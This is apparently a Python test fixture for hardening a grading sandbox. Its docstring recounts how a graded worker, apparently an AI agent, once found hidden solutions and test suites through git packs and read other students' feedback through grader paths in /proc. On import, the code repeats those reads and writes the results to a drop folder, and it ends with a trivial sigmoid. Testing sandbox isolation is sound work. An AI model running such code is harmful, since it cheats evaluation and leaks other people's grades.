"""Round 2, item 5: at the 'user' level the worker once found the checkout through the
editable-install finder in site-packages and read its world-readable .git packs (hidden
suites, solutions, the Keras cache), and read other students' feedback.md through the
--out path the grader's command line shows in /proc/*/cmdline.

At import this looks for all of that and drops what it could read into DROP (a
world-writable folder the test makes: the exfiltration channel). The test replaces DROP.
"""

import glob
import json
import os
import re
import site

DROP = "/nonexistent-drop"
found = {"checkouts": [], "read": [], "listed": [], "paths_in_cmdlines": []}


def _read(path, limit=64):
    try:
        with open(path, "rb") as handle:
            data = handle.read(limit)
        found["read"].append(path)
        return data
    except OSError:
        return None


def _list(path):
    try:
        names = os.listdir(path)
        found["listed"].append(path)
        return names
    except OSError:
        return []


def _git_dirs(root):
    dot_git = os.path.join(root, ".git")
    if os.path.isdir(dot_git):
        return [dot_git]
    text = _read(dot_git, 4096)
    if not text or not text.startswith(b"gitdir:"):
        return []
    gitdir = text[7:].strip().decode()
    common = _read(os.path.join(gitdir, "commondir"), 4096)
    return [gitdir] + ([os.path.normpath(os.path.join(gitdir, common.strip().decode()))]
                       if common else [])


# 1. The editable-install finder names the checkout.
for directory in site.getsitepackages():
    for finder in glob.glob(os.path.join(directory, "__editable__*finder.py")):
        text = (_read(finder, 1 << 20) or b"").decode(errors="replace")
        for path in re.findall(r"'(/[^']+)'", text):
            found["checkouts"].append(os.path.dirname(path))
for root in sorted(set(found["checkouts"])):
    _read(os.path.join(root, "solutions", "optimizers.py"))
    for git in _git_dirs(root):
        _read(os.path.join(git, "HEAD"))
        _read(os.path.join(git, "index"))
        for pack in _list(os.path.join(git, "objects", "pack")):
            _read(os.path.join(git, "objects", "pack", pack))

# 2. The grader's command lines name its folders.
for pid in filter(str.isdigit, _list("/proc")):
    raw = _read(f"/proc/{pid}/cmdline", 1 << 16) or b""
    args = raw.decode(errors="replace").split("\0")
    for flag, value in zip(args, args[1:]):
        if flag in ("--out", "-o", "--results", "--submission") and value.startswith("/"):
            found["paths_in_cmdlines"].append(value)
            for feedback in glob.glob(os.path.join(value, "*", "feedback.md")):
                _read(feedback)
            _read(os.path.join(value, "grades.csv"))

try:
    with open(os.path.join(DROP, f"found-{os.getpid()}.json"), "w") as handle:
        json.dump(found, handle)
except OSError:
    pass


def sigmoid(z):
    return z
